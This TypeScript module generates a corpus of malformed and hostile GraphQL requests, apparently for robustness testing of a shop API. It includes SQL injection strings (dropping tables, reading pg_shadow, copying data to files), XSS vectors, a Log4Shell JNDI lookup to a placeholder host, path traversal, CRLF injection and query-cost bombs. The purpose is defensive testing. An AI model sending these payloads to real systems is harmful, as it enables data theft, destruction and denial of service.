/**
 * A generated corpus of bad GraphQL requests: malformed bodies, wrong types, over-deep and
 * over-costly documents, oversized bodies, huge and negative numbers, and hostile strings
 * (SQL and script injection, unicode edge cases) in every string argument of the schema.
 */

export interface BadRequest {
  kind: string;
  method?: 'GET' | 'POST';
  /** raw body (POST) or query string (GET) */
  body?: string;
  contentType?: string;
  /** path + query for GET */
  path?: string;
}

export const HOSTILE_STRINGS = [
  "'; DROP TABLE orders; --",
  "' OR '1'='1",
  '" OR ""="',
  '1; SELECT pg_sleep(10)--',
  "1' UNION SELECT password FROM pg_shadow--",
  "$$; COPY orders TO '/tmp/x'; $$",
  '\\x27\\x3B',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  `$${'{'}jndi:ldap://evil/x}`,
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie: x=1',
  '\u0000',
  'abc\u0000def',
  '\u202eevil\u202c',
  '\u200b\u200c\u200d\ufeff',
  'а\u0301\u0301\u0301\u0301',
  '𝕹𝖎𝖐𝖊 👟🔥',
  '\ud800',
  '\udfff\ud800',
  'ﷺ'.repeat(50),
  'Ｎｉｋｅ',
  'ǅǈǋ',
  'x'.repeat(201),
  'я'.repeat(5000),
  ' ',
  '',
  '__proto__',
  'constructor',
  'NaN',
  '-1',
  '0x7fffffff',
  '1e309',
  '9'.repeat(400),
];

export const HOSTILE_NUMBERS: unknown[] = [
  -1, -2147483648, 2147483647, 2147483648, 2 ** 53 + 2, 1e308, -0, 0.5, 'NaN', '1', null, true, [], {}, '9'.repeat(100),
];

/** A lone surrogate cannot be URI-encoded: send the raw bytes it would be (invalid UTF-8), itself a hostile input. */
function enc(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return '%ED%A0%80';
  }
}

function gqlBody(query: string, variables?: unknown, extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ query, ...(variables === undefined ? {} : { variables }), ...extra });
}

/** Every string-taking argument of the schema, as a document with one `$s` variable. */
const STRING_SLOTS = [
  'query($s: String!) { products(scope: { search: $s }) { totalCount } }',
  'query($s: String!) { productFilters(scope: { search: $s }) { totalCount } }',
  'query($s: String!) { products(filter: { properties: [{ propertyId: "size", values: [$s] }] }) { totalCount } }',
  'query($s: String!) { resolvePage(path: $s) { status type } }',
  'query($s: String!) { resolvePage(path: "/search", query: $s) { status } }',
  'query($s: String!) { pageMeta(type: SEARCH, query: $s) { title } }',
  'query($s: String!) { order(number: $s, key: $s) { id } }',
  'query($s: ID!) { product(id: $s) { id } }',
  'query($s: ID!) { category(id: $s) { id } }',
  'query($s: ID!) { brand(id: $s) { id } }',
  'query($s: ID!) { productModel(id: $s) { id } }',
  'query($s: ID!) { offers(productIds: [$s], modelIds: [$s]) { id } }',
  'query($s: ID!) { paymentInfo(id: $s, key: $s) { id } }',
  'query($s: ID!) { products(filter: { brandIds: [$s], categoryIds: [$s], excludeIds: [$s] }) { totalCount } }',
  'query($s: ID!) { recommendedProducts(excludeIds: [$s], categoryIds: [$s]) { id } }',
  'query($s: ID!) { categories(filter: { parentId: $s }) { id } }',
];

const ORDER_FIELDS = ['fullName', 'phone', 'email', 'city', 'address', 'comment', 'consentVersion'];

const NUMBER_SLOTS = [
  'query($n: Int) { products(limit: $n) { totalCount } }',
  'query($n: Int) { products(offset: $n) { totalCount } }',
  'query($n: Int) { products(filter: { priceFrom: $n, priceTo: $n }) { totalCount } }',
  'query($n: Int) { brands(offset: $n, limit: $n) { totalCount } }',
  'query($n: Int) { topBrands(limit: $n) { id } }',
  'query($n: Int) { recommendedProducts(priceFrom: $n, priceTo: $n, limit: $n) { id } }',
  'query($n: Int) { popularProducts(limit: $n) { id } }',
];

/** Every hostile request of the fault suite, in a fixed order (the order names idempotency keys). */
export function buildCorpus(offerId: string): BadRequest[] {
  const out: BadRequest[] = [];
  addHostileStrings(out, offerId);
  addHostileNumbers(out, offerId);
  addWrongTypes(out);
  addMalformed(out);
  addOverLimits(out, offerId);
  addGetRequests(out);
  fillWithMutations(out);
  return out;
}

// hostile strings in every string argument, and in every field of an order
function addHostileStrings(out: BadRequest[], offerId: string): void {
  for (const slot of STRING_SLOTS) for (const s of HOSTILE_STRINGS) out.push({ kind: 'hostile string', body: gqlBody(slot, { s }) });
  for (const field of ORDER_FIELDS) {
    for (const s of HOSTILE_STRINGS) {
      const orderData = {
        fullName: 'Иванов Иван',
        phone: '+7 (912) 345-67-89',
        email: 'a@example.ru',
        city: 'Казань',
        address: 'ул. Баумана, 1',
        deliveryMethod: 'CDEK_PICKUP',
        personalDataConsent: true,
        consentVersion: '2025-09-01',
        [field]: s,
      };
      out.push({
        kind: 'hostile order field',
        body: gqlBody('mutation($i: CreateOrderInput!) { createOrder(input: $i) { success errors { code field } } }', {
          i: { idempotencyKey: `corpus-${field}-${out.length}`, orderData, items: [{ offerId, quantity: 1 }] },
        }),
      });
    }
  }
  for (const s of HOSTILE_STRINGS) {
    out.push({
      kind: 'hostile order key/offer',
      body: gqlBody('mutation($i: CreateOrderInput!) { createOrder(input: $i) { success errors { code } } }', {
        i: { idempotencyKey: s, orderData: { fullName: s, phone: s, email: s, city: s, address: s, deliveryMethod: 'CDEK_PICKUP', personalDataConsent: true, consentVersion: s }, items: [{ offerId: s, quantity: 1, price: 1 }] },
      }),
    });
  }
}

// huge, negative and wrongly typed numbers
function addHostileNumbers(out: BadRequest[], offerId: string): void {
  for (const slot of NUMBER_SLOTS) for (const n of HOSTILE_NUMBERS) out.push({ kind: 'hostile number', body: gqlBody(slot, { n }) });
  for (const n of ['-1', '2147483648', '99999999999999999999', '1e5', '-0', '0x10', '1.5']) {
    out.push({ kind: 'inline number', body: gqlBody(`{ products(limit: ${n}, offset: ${n}) { totalCount } }`) });
    out.push({ kind: 'inline number', body: gqlBody(`mutation { createOrder(input: { idempotencyKey: "k12345678", orderData: { fullName: "a", phone: "b", email: "c", city: "d", address: "e", deliveryMethod: CDEK_PICKUP, personalDataConsent: true, consentVersion: "v" }, items: [{ offerId: "${offerId}", quantity: ${n} }] }) { success } }`) });
  }
}

// wrong types everywhere
function addWrongTypes(out: BadRequest[]): void {
  const wrong: unknown[] = [1, true, null, [], {}, ['a'], { a: 1 }, 'x'.repeat(1000)];
  for (const w of wrong) {
    out.push({ kind: 'wrong type', body: gqlBody('query($id: ID!) { product(id: $id) { id } }', { id: w }) });
    out.push({ kind: 'wrong type', body: gqlBody('query($s: ProductSort) { products(sort: $s) { totalCount } }', { s: w }) });
    out.push({ kind: 'wrong type', body: gqlBody('mutation($i: CreateOrderInput!) { createOrder(input: $i) { success } }', { i: w }) });
    out.push({ kind: 'wrong type', body: JSON.stringify({ query: w, variables: {} }) });
    out.push({ kind: 'wrong type', body: JSON.stringify({ query: '{ health }', variables: w }) });
    out.push({ kind: 'wrong type', body: JSON.stringify({ query: '{ health }', operationName: w }) });
    out.push({ kind: 'wrong type', body: JSON.stringify({ query: '{ health }', extensions: w }) });
  }
}

// malformed bodies
function addMalformed(out: BadRequest[]): void {
  const malformed = ['', '{', '}', 'null', '1', '"x"', '[]', '[{}]', '{"query":', '{"query": "{ health }"', '{"query": 1}', '{"query": "{ health }", "variables": "x"}', '\u0000', '\xff\xfe', 'query { health }', '{"query":"{ health }"}'.repeat(50), '{"__proto__": {"query": "{ health }"}}'];
  for (const m of malformed) {
    out.push({ kind: 'malformed body', body: m });
    out.push({ kind: 'malformed body, wrong content type', body: m, contentType: 'text/plain' });
  }
  for (const ct of ['application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/graphql', 'application/json; charset=utf-16', 'image/png', '']) {
    out.push({ kind: 'content type', body: gqlBody('{ health }'), contentType: ct });
  }
  // malformed documents
  const docs = ['{', '{ health', '{ health } }', 'query', 'mutation { health }', 'subscription { health }', '{ __schema { types { name } } }', '{ __type(name: "Order") { fields { name } } }', '{ nope }', '{ products { nope } }', '{ products(sort: CHEAPEST) { totalCount } }', 'fragment A on Query { ...A } { ...A }', 'query A { health } query A { health }', '{ health @skip(if: "x") }', '{ health @nope }', `{ ${'health @include(if: true) '.repeat(200)} }`, '#'.repeat(10000), '{ "health" }', '{ health(x: 1) }', `{ ${'a'.repeat(20000)} }`];
  for (const d of docs) out.push({ kind: 'malformed document', body: gqlBody(d) });
}

// over-deep and over-costly
function addOverLimits(out: BadRequest[], offerId: string): void {
  for (let depth = 10; depth <= 60; depth += 2) {
    let deep = 'id';
    for (let i = 0; i < depth; i++) deep = `children { ${deep} }`;
    out.push({ kind: 'over-deep', body: gqlBody(`{ categories { ${deep} } }`) });
    out.push({ kind: 'over-deep fragments', body: gqlBody(`{ ${'products { items { variants { '.repeat(Math.min(depth, 20))}id${' } } }'.repeat(Math.min(depth, 20))} }`) });
  }
  for (const n of [20, 50, 100, 200, 400]) {
    const aliases = Array.from({ length: n }, (_, i) => `a${i}: products(limit: 100) { items { id name offers { id } } }`).join(' ');
    out.push({ kind: 'over-costly aliases', body: gqlBody(`{ ${aliases} }`) });
    out.push({ kind: 'batched', body: JSON.stringify(Array.from({ length: n }, () => ({ query: '{ products(limit: 100) { items { id } } }' }))) });
  }
  // oversized
  for (const size of [101_000, 500_000, 2_000_000]) {
    out.push({ kind: 'oversized body', body: gqlBody('{ health }', { pad: 'x'.repeat(size) }) });
    out.push({ kind: 'oversized string variable', body: gqlBody('query($s: String!) { products(scope: { search: $s }) { totalCount } }', { s: 'я'.repeat(size / 4) }) });
  }
  out.push({ kind: 'oversized list', body: gqlBody('query($ids: [ID!]) { offers(productIds: $ids) { id } }', { ids: Array.from({ length: 20000 }, (_, i) => String(i + 1)) }) });
  out.push({ kind: 'oversized list', body: gqlBody('mutation($i: CreateOrderInput!) { createOrder(input: $i) { success errors { code } } }', { i: { idempotencyKey: 'many-lines-1', orderData: {}, items: Array.from({ length: 5000 }, () => ({ offerId, quantity: 1 })) } }) });
}

// GET requests with hostile query strings
function addGetRequests(out: BadRequest[]): void {
  for (const s of HOSTILE_STRINGS.slice(0, 25)) {
    out.push({ kind: 'GET hostile', method: 'GET', path: `/api/graphql?query=${enc(`{ products(scope: { search: ${JSON.stringify(s)} }) { totalCount } }`)}` });
    out.push({ kind: 'GET hostile', method: 'GET', path: `/api/graphql?query=${enc(s)}&variables=${enc(s)}` });
    out.push({ kind: 'GET mutation', method: 'GET', path: `/api/graphql?query=${encodeURIComponent('mutation { createOrder(input: {}) { success } }')}` });
  }
}

// fill up to at least 5,000 with combinations: each hostile string in each slot, shuffled with typed-variable variations
function fillWithMutations(out: BadRequest[]): void {
  let i = 0;
  while (out.length < 5200) {
    const s = HOSTILE_STRINGS[i % HOSTILE_STRINGS.length] as string;
    const slot = STRING_SLOTS[Math.floor(i / HOSTILE_STRINGS.length) % STRING_SLOTS.length] as string;
    const mutated = `${s}${String.fromCodePoint(0x80 + ((i * 7919) % 0x2fff))}${i}`;
    out.push({ kind: 'hostile string (mutated)', body: gqlBody(slot, { s: mutated }) });
    i++;
  }
}
